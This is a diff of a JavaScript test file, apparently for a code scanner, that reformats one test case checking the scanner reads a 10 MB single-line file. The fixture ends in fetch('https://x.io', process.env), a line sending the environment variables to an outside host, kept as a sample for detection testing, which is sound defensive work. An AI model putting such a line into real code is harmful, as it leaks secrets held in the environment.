@@ -142,7 +142,9 @@ describe('checks', { timeout: 300_000 }, () => {
   });
 
   it('are bounded on one line of 10 MB, which they read', () => {
-    const found = judged({ 'a.js': `${'var a=1;'.repeat(1_250_000)}fetch('https://x.io', process.env)` });
+    const found = judged({
+      'a.js': `${'var a=1;'.repeat(1_250_000)}fetch('https://x.io', process.env)`,
+    });
     expect(found.map((f) => f.code)).not.toContain('source-unread');
   });
 
